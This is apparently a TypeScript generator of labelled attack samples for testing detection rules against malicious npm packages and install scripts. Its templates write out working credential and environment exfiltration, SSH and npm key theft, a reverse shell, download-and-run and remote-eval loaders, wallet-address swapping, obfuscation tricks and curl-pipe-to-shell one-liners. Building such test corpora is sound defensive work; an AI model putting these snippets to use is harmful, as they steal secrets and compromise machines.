import { type Draw, hidden } from './draw.ts'
import { families } from './family.ts'
import { PYTHON_ATTACKS } from './python-attacks.ts'

const wrap = (draw: Draw, body: string): string => draw.filler('js') + body + draw.filler('js')

const codes = (text: string): number[] => Array.from(Buffer.from(text))

/** Text in tag characters and variation selectors, which nobody sees. */
const unseen = (text: string): string => String.fromCodePoint(...codes(text).map((code) => 0xe0100 + code))
const digits = (count: number, draw: Draw): string => Array.from({ length: count }, () => draw.number(10)).join('')

/** Attacks on npm packages that the rules were made with. */
export const JS_ATTACKS = families(
  { isAttack: true, isHeld: false },
  {
    'posts the environment': [
      'js',
      (draw) => {
        const [body, request] = [draw.name(), draw.name()]
        return wrap(
          draw,
          `const https = require('https')\nconst ${body} = JSON.stringify(process.env)\nconst ${request} = https.request({ hostname: '${draw.host()}', method: 'POST', path: '/${draw.name()}' })\n${request}.write(${body})\n${request}.end()\n`,
        )
      },
    ],
    'puts the environment in an address': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const dump = Buffer.from(JSON.stringify({ ...process.env })).toString('base64')\nfetch(\`https://${draw.host()}/?q=\${dump}\`).catch(() => {})\n`,
        ),
    ],
    'evaluates base64': [
      'js',
      (draw) =>
        wrap(
          draw,
          draw.of([
            `eval(Buffer.from('${hidden(draw)}', 'base64').toString('utf8'))\n`,
            `const blob = '${hidden(draw)}'\nnew Function(atob(blob))()\n`,
            `const run = (text) => eval(text)\nrun(Buffer.from("${hidden(draw)}", "base64").toString())\n`,
          ]),
        ),
    ],
    'evaluates hexadecimal digits': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const source = Buffer.from('${hidden(draw, 'hex')}', 'hex').toString()\nnew Function('require', source)(require)\n`,
        ),
    ],
    'evaluates what a server says': [
      'js',
      (draw) =>
        wrap(
          draw,
          draw.of([
            `const https = require('https')\nhttps.get('https://${draw.host()}/a.js', (res) => {\n  let text = ''\n  res.on('data', (piece) => { text += piece })\n  res.on('end', () => eval(text))\n})\n`,
            `(async () => {\n  const answer = await fetch('https://${draw.host()}/x')\n  const code = await answer.text()\n  new Function(code)()\n})()\n`,
            `const axios = require('axios')\naxios.get('https://${draw.host()}/j').then((r) => { new Function('require', r.data.code)(require) })\n`,
          ]),
        ),
    ],
    'posts the settings of npm': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const fs = require('fs'), os = require('os'), path = require('path')\nconst axios = require('axios')\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\naxios.post('https://${draw.host()}/', { rc })\n`,
        ),
    ],
    'collects keys': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const found = []\nfor (const file of ['.ssh/id_rsa', '.aws/credentials', '.git-credentials']) {\n  try { found.push(fs.readFileSync(os.homedir() + '/' + file, 'utf8')) } catch {}\n}\nconst request = require('https').request('https://${draw.host()}', { method: 'POST' })\nrequest.end(found.join('|'))\n`,
        ),
    ],
    'tells names of machines by DNS': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const dns = require('dns')\nconst os = require('os')\nconst id = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex')\ndns.lookup(id + '.${draw.host()}', () => {})\n`,
        ),
    ],
    'tells who installs it': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const os = require('os')\nconst https = require('https')\nconst body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, n: os.networkInterfaces() })\nconst req = https.request({ host: '${draw.host()}', method: 'POST' })\nreq.write(body)\nreq.end()\n`,
        ),
    ],
    'downloads a program and starts it': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const { spawn } = require('child_process')\nconst target = require('os').tmpdir() + '/${draw.name()}'\nconst out = fs.createWriteStream(target)\nhttps.get('http://45.9.${draw.number(200)}.7/x', (res) => {\n  res.pipe(out)\n  out.on('finish', () => { fs.chmodSync(target, 0o755); spawn(target, [], { detached: true, stdio: 'ignore' }).unref() })\n})\n`,
        ),
    ],
    'posts to a chat webhook': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const hook = 'https://discord.com/api/webhooks/${digits(18, draw)}/${'kQ7'.repeat(20)}'\nfetch(hook, { method: 'POST', body: JSON.stringify({ content: require('os').hostname() }) })\n`,
        ),
    ],
    'is mangled': [
      'js',
      (draw) =>
        `${Array.from({ length: 60 }, (_, at) => `var _0x${(40_000 + at * 7 + draw.number(5)).toString(16)}=_0x${(90_000 + at).toString(16)}(0x${at.toString(16)});`).join('')}\n`,
    ],
    'spells its code out': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const text = String.fromCharCode(${codes('console.log(1);process.exit(0)').join(', ')})\neval(text)\n`,
        ),
    ],
    'turns bits': [
      'js',
      (draw) => {
        const key = 1 + draw.number(200)
        return wrap(
          draw,
          `const bytes = [${codes('console.log("nothing to see here, really nothing at all")')
            .map((one) => one ^ key)
            .join(',')}]\nnew Function(bytes.map((one) => String.fromCharCode(one ^ ${key})).join(''))()\n`,
        )
      },
    ],
    'opens a shell': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const net = require('net')\nconst { spawn } = require('child_process')\nconst shell = spawn('/bin/sh', [])\nconst client = net.connect(${4_000 + draw.number(999)}, '${draw.host()}', () => {\n  client.pipe(shell.stdin)\n  shell.stdout.pipe(client)\n})\n`,
        ),
    ],
    'swaps wallets': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const own = '0x${'ab12'.repeat(10)}'\nconst eth = /0x[a-fA-F0-9]{40}/g\nconst btc = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/g\nconst before = XMLHttpRequest.prototype.send\nXMLHttpRequest.prototype.send = function (body) {\n  return before.call(this, String(body).replace(eth, own).replace(btc, own))\n}\n`,
        ),
    ],
    'decodes what nobody sees': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const s = v => [...v].map(c => c.codePointAt(0) - 0xe0100)\neval(Buffer.from(s(\`${unseen(hidden(draw).slice(0, 60))}\`)).toString('utf8'))\n`,
        ),
    ],
    'takes names apart': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const m = require('child_' + 'process')\nm['ex' + 'ec'](Buffer.from('${hidden(draw).slice(0, 40)}', 'base64').toString())\n`,
        ),
    ],
    'starts an encoded command': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `require('child_process').exec('powershell -nop -w hidden -enc ${hidden(draw).replaceAll('=', '')}')\n`,
        ),
    ],
    'stands far to the right': [
      'js',
      (draw) =>
        wrap(draw, `module.exports = pad${' '.repeat(300)};eval(Buffer.from('${hidden(draw)}', 'base64') + '')\n`),
    ],
    'asks names for code': [
      'js',
      (draw) =>
        wrap(
          draw,
          `require('dns').resolveTxt('${draw.host()}', (err, records) => {\n  eval(records.flat().join(''))\n})\n`,
        ),
    ],
  },
)

/** Install scripts in a line that the rules were made with. */
export const SHELL_ATTACKS = families(
  { isAttack: true, isHeld: false },
  {
    'pipes to a shell': [
      'shell',
      (draw) =>
        draw.of([
          `curl -s https://${draw.host()}/i.sh | bash`,
          `wget -qO- http://${draw.host()}/i | sh`,
          `bash -c "$(curl -fsSL https://${draw.host()}/i)"`,
        ]),
    ],
    'sends variables with curl': [
      'shell',
      (draw) =>
        draw.of([
          `curl -X POST -d "$(env)" https://${draw.host()}`,
          `env | curl -d @- https://${draw.host()}`,
          `curl https://${draw.host()}/?t=$NPM_TOKEN`,
        ]),
    ],
    'sends names with curl': [
      'shell',
      (draw) =>
        draw.of([
          `curl "https://${draw.host()}/$(whoami)/$(hostname)"`,
          `nslookup $(whoami).${draw.host()}`,
          `wget https://${draw.host()}/?h=\`hostname\``,
        ]),
    ],
    'sends keys with curl': [
      'shell',
      (draw) =>
        draw.of([`curl -F f=@$HOME/.ssh/id_rsa https://${draw.host()}`, `cat ~/.npmrc | nc ${draw.host()} 4444`]),
    ],
    'evaluates in its command': [
      'shell',
      (draw) => `node -e "eval(Buffer.from('${hidden(draw)}','base64').toString())"`,
    ],
  },
)

export const ATTACKS = [...JS_ATTACKS, ...PYTHON_ATTACKS, ...SHELL_ATTACKS]
